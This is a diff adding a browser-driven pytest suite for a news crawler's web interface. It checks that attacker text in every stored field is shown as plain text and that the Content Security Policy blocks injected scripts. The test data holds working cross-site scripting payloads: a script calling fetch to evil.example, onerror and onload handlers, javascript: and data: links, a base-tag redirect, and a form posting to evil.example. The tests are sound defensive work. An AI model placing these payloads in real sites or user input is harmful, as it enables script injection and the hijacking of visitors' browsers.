@@ -1,0 +1,183 @@
+"""Text of an attacker in every field of everything that is shown, looked at in a real browser."""
+
+from __future__ import annotations
+
+import datetime as dt
+from collections.abc import Iterator
+from pathlib import Path
+
+import httpx
+import pytest
+from playwright.sync_api import Browser
+from sqlalchemy import Engine, insert
+
+from crawler.access import audit
+from crawler.access.audit import Deed
+from crawler.article import Headline, RelatedStory
+from crawler.ledger.connect import writing
+from crawler.ledger.tables import alarms, crawls, gaps, health_samples, jobs, schedules, walks
+
+from .browser import Watched, chromium
+from .conftest import NOW, SITE, Serve, Shelf, story
+
+pytestmark = pytest.mark.slow
+
+SCRIPT = "<script>window.owned=1;fetch('http://evil.example/')</script>"
+ATTACKS = {
+    "script": SCRIPT,
+    "image": "<img src=http://evil.example/x.png onerror=window.owned=1>",
+    "attribute": "\" autofocus onfocus=window.owned=1 x='",
+    "closing": f"</title></textarea></style></noscript></svg></a></pre>{SCRIPT}",
+    "template": "{{ 7*7 }}{% for x in () %}${7*7}",
+    "svg": "<svg onload=window.owned=1><a xlink:href='javascript:window.owned=1'>x</a></svg>",
+    "base": "<base href=http://evil.example/><meta http-equiv=refresh content='0;http://evil.example'>",
+    "form": "<form action=http://evil.example/><button>Crawl</button></form>",
+}
+LINKS = (
+    "javascript:window.owned=1",
+    "JaVaScRiPt:window.owned=1//https://",
+    "data:text/html,<script>window.owned=1</script>",
+    "vbscript:x",
+    "\x01javascript:window.owned=1",
+    'https://evil.example/" onmouseover="window.owned=1',
+)
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with chromium() as browser:
+        yield browser
+
+
+def fill(shelf: Shelf, attack: str, link: str, number: int) -> int:
+    """An article whose every field is an attack, named by another, with two versions."""
+    attacked = story(
+        number,
+        title=attack,
+        source=attack,
+        section=attack,
+        lead=attack,
+        body=(attack, f"plain {attack}"),
+        tags=(attack,),
+        authors=(attack,),
+        image=link,
+        language=attack[:30],
+        published_raw=attack,
+        related=(RelatedStory(None, attack, link),),
+        hot_news=(Headline(attack, link),),
+        latest=(Headline(attack, link),),
+        provenance={"title": attack, attack: attack},
+        revision=2,
+    )
+    kept = shelf.keep(attacked)
+    changes = [
+        {"kind": "headline", "before": f"old {attack}", "after": attack},
+        {"kind": "paragraphs", "at": 0, "removed": [f"old {attack}"], "added": [attack]},
+        {"kind": "tags", "removed": [attack], "added": [f"new {attack}"]},
+        {"kind": attack, "removed": [attack], "added": []},
+    ]
+    shelf.revise(attacked, changes)
+    other = shelf.keep(story(number + 40, title=attack, url=f"{attacked.url}?{number}"))
+    shelf.link(other, kept, attack)
+    shelf.link(kept, other, attack)
+    shelf.link(0, kept, attack, "hot_news")
+    return kept
+
+
+def fill_rest(engine: Engine, attack: str) -> None:
+    """The same in what crawls, jobs, alarms and operations say."""
+    crawl = {"site": SITE, "command": attack[:20], "arguments": "{}", "outcome": attack[:20]}
+    alarm = {"site": SITE, "kind": "rule-blind", "subject": attack, "message": attack}
+    job = {"kind": "crawl", "site": SITE, "arguments": "{}", "state": "failed", "reason": attack}
+    walk = {"site": SITE, "listing": 1, "url": attack, "crawl": 1, "started": NOW, "position": 1}
+    with writing(engine) as connection:
+        connection.execute(insert(crawls).values(**crawl, started=NOW, ended=NOW, reason=attack))
+        rule = f'{{"rule": {attack!r}}}'.replace("'", '"') if '"' not in attack else "{}"
+        evidence = rule if "\\" not in rule and rule.count('"') == 4 else "{}"
+        connection.execute(
+            insert(alarms).values(**alarm, raised=NOW, last_seen=NOW, evidence=evidence)
+        )
+        connection.execute(insert(walks).values(**walk, state="gap"))
+        gap = {"site": SITE, "walk": 1, "url": attack, "opened": NOW, "reason": attack}
+        connection.execute(insert(gaps).values(gap))
+        connection.execute(
+            insert(jobs).values(**job, created=NOW, attempt=1, losses=0, log="job-1.log")
+        )
+        schedule = {"name": "x", "definition": attack, "mark": "", "since": NOW}
+        connection.execute(insert(schedules).values(schedule))
+        audit.record(connection, Deed(attack[:64], attack[:40], attack, attack, attack[:64]), NOW)
+        numbers = (
+            '{"crawl": 1, "at": "2026-01-21T18:00:00Z", "articles": 2, "filled": {"title": 1}}'
+        )
+        sample = {"crawl": 1, "site": SITE, "at": NOW, "numbers": numbers}
+        connection.execute(insert(health_samples).values(sample))
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_an_attack_is_shown_as_text(
+    name: str, browser: Browser, shelf: Shelf, serve: Serve, engine: Engine, tmp_path: Path
+) -> None:
+    attack = ATTACKS[name]
+    kept = [fill(shelf, attack, link, number) for number, link in enumerate(LINKS)]
+    fill_rest(engine, attack)
+    (tmp_path / "logs").mkdir()
+    (tmp_path / "logs" / "job-1.log").write_text(attack, encoding="utf-8")
+    paths = [f"/articles/{number}" for number in kept]
+    paths += ["/", f"/sites/{SITE}", "/articles", "/jobs", "/jobs/1", "/alarms", "/audit"]
+    paths += ["/schedules", "/docs"]
+    clock = {"clock": lambda: NOW + dt.timedelta(hours=2)}
+    with serve(**clock) as client:
+        query = str(httpx.QueryParams({"words": attack, "author": attack, "since": attack}))
+        watched = Watched(browser.new_page(), str(client.base_url).rstrip("/"))
+        for path in paths:
+            watched.open(path)
+            look_over(watched, path)
+        watched.page.goto(f"{watched.origin}/articles?{query}")
+        look_over(watched, "what was typed")
+        watched.open(paths[0])
+        assert attack in (watched.page.text_content("h1") or "")
+        for line in watched.page.query_selector_all("details:not([open]) summary"):
+            line.click()
+        look_over(watched, "opened")
+        watched.page.close()
+    problems = [one for one in watched.complaints if "422" not in one]
+    assert problems == []
+
+
+def look_over(watched: Watched, path: str) -> None:
+    """Nothing ran, nothing leads anywhere but to http and https, nothing else is loaded."""
+    page = watched.page
+    assert page.evaluate("window.owned") is None, path
+    links = page.evaluate(
+        "[...document.querySelectorAll('[href]')].map(one => one.href.baseVal ?? one.href)"
+    )
+    assert {link.partition(":")[0] for link in links if ":" in link} <= {"http", "https"}, path
+    strange = page.evaluate(
+        "document.querySelectorAll('img, iframe, object, embed, base, script:not([src]), style,"
+        " [style], [onerror], [onfocus], [onload], [onmouseover]').length"
+    )
+    assert strange == 0, path
+    actions = page.evaluate("[...document.forms].map(one => one.action)")
+    assert all(action.startswith(watched.origin) for action in actions), path
+
+
+def test_even_what_slipped_through_would_not_run(browser: Browser, serve: Serve) -> None:
+    """The policy by itself: a script that is put into a page as if escaping had failed."""
+    with serve() as client:
+        page = browser.new_page()
+        told: list[str] = []
+        page.on("console", lambda one: told.append(one.text))
+        page.goto(str(client.base_url))
+        page.evaluate(
+            """() => {
+            const script = document.createElement("script");
+            script.textContent = "window.owned = 1";
+            document.body.append(script);
+            document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.owned=2'>");
+            document.body.insertAdjacentHTML("beforeend", "<img src='http://127.0.0.1:1/x.png'>");
+            }"""
+        )
+        page.wait_for_timeout(200)
+        assert page.evaluate("window.owned") is None
+        assert len([line for line in told if "Content Security Policy" in line]) >= 2
+        page.close()
